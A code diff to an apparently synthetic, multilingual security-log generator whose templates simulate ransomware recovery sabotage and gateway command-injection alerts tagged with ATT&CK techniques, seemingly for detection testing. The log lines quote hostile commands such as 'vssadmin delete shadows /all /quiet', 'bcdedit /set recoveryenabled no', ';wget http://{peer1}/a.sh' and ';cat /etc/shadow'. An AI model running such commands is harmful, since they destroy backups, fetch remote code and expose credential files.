@@ -160,18 +160,9 @@ I تم مسح سجل التدقيق. اسم الحساب: {word1}
 """, attack("Log Clearing", "T1070.001"))
 
 story("applications/tongue-copies-destroyed", [desk, office, guard], r"""
-W Schattenkopien gelöscht: vssadmin delete shadows /all /quiet, Konto {word1}
-?E {many} Dateien in {dir} umbenannt nach *.{ext1}
-
-E Alle Sicherungen auf {host} gelöscht durch {word1} von {peer1}
-
 E Erpressernachricht {note} in {many} Ordnern abgelegt
 
-W Toutes les sauvegardes supprimées par {word1} ({peer1})
-
 E {many} fichiers chiffrés avec l'extension .{ext1}, demande de rançon {note}
-
-E Copias de seguridad eliminadas: wbadmin delete catalog -quiet
 
 E {many} archivos cifrados (*.{ext1}), nota de rescate {note}
 
@@ -192,7 +183,35 @@ E ファイルが暗号化されました (*.{ext1})、シャドウ コピーが
 E 检测到大量文件被加密 后缀 .{ext1} 勒索信 {note}
 
 E تم تشفير الملفات بالامتداد .{ext1} ووجدت مذكرة فدية {note}
+
+E {many} Dateien in {dir} umbenannt nach *.{ext1}
 """, attack("Ransomware Activity", "T1486", "T1490", severity="CRITICAL"))
+
+story("applications/tongue-recovery-prevented", [desk, office, guard], r"""
+W Schattenkopien gelöscht: vssadmin delete shadows /all /quiet, Konto {word1}
+
+E Alle Sicherungen auf {host} gelöscht durch {word1} von {peer1}
+
+W Toutes les sauvegardes supprimées par {word1} ({peer1})
+
+E Copias de seguridad eliminadas: wbadmin delete catalog -quiet
+
+E Tutti i backup eliminati da {word1} ({peer1})
+
+E Alle back-ups verwijderd door {word1} vanaf {peer1}
+
+W Riga di comando: <vssadmin delete shadows /all /quiet|wmic shadowcopy delete>
+
+W Wszystkie kopie zapasowe usunięte przez {word1} ({peer1})
+
+W Командная строка: <vssadmin delete shadows /all /quiet|bcdedit /set recoveryenabled no>
+
+E Все резервные копии удалены пользователем {word1} с {peer1}
+
+W 命令行: <vssadmin delete shadows /all|wbadmin delete catalog -quiet>
+
+E すべてのバックアップが {word1} により削除されました ({peer1})
+""", attack("Ransomware Activity", "T1490", severity="CRITICAL"))
 
 story("applications/tongue-passwords-guessed-at", [desk, gateway, office], r"""
 *W Fehler beim Anmelden eines Kontos. Kontoname: {user} Quellnetzwerkadresse: {peer1}
@@ -253,15 +272,15 @@ W قاعدة جديدة: إعادة توجيه كل الرسائل إلى {word1
 """, attack("Mailbox Manipulation", "T1114.003", "T1564.008"))
 
 story("applications/tongue-gateway-attacked", [gateway], r"""
-+W Angriff erkannt: <Befehlseinschleusung|Verzeichnisdurchlauf|SQL-Injection> von {peer1}: <;wget http://{peer1}/a.sh|../../../../etc/passwd|' OR '1'='1>
++W Angriff erkannt: Befehlseinschleusung von {peer1}: <;wget http://{peer1}/a.sh|;id|$(curl {peer1}/x)>
 
-+W Attaque détectée : <injection de commande|traversée de répertoire> depuis {peer1} : <$(curl {peer1}/x)|../../../../etc/shadow>
++W Attaque détectée : injection de commande depuis {peer1} : <$(curl {peer1}/x)|;cat /etc/shadow>
 
 +W Ataque detectado: ejecución remota, origen {peer1}, petición /cgi-bin/;<id|wget http://{peer1}/m>
 
 +W Attacco rilevato: iniezione di comandi da {peer1} (`<id|uname -a>`)
 
-+W Aanval gedetecteerd: <commando-injectie|padtraversal> vanaf {peer1}: <;id|../../etc/passwd>
++W Aanval gedetecteerd: commando-injectie vanaf {peer1}: <;id|;cat /etc/passwd>
 
 +W Wykryto atak: wstrzyknięcie polecenia z {peer1}: <;cat /etc/passwd|$(id)>
 
@@ -273,7 +292,7 @@ story("applications/tongue-gateway-attacked", [gateway], r"""
 
 +W 攻撃を検出: コマンドインジェクション 送信元 {peer1}: ;<id|wget http://{peer1}/x>
 
-+W 检测到攻击: 命令注入 源 {peer1} 内容 <;id|$(wget {peer1}/a)|../../../../etc/passwd>
++W 检测到攻击: 命令注入 源 {peer1} 内容 <;id|$(wget {peer1}/a)>
 
 +W تم اكتشاف هجوم: حقن أوامر من {peer1}: <;id|$(id)>
 """, attack("OS Command Injection Attempt", "T1190", "T1059.004"))
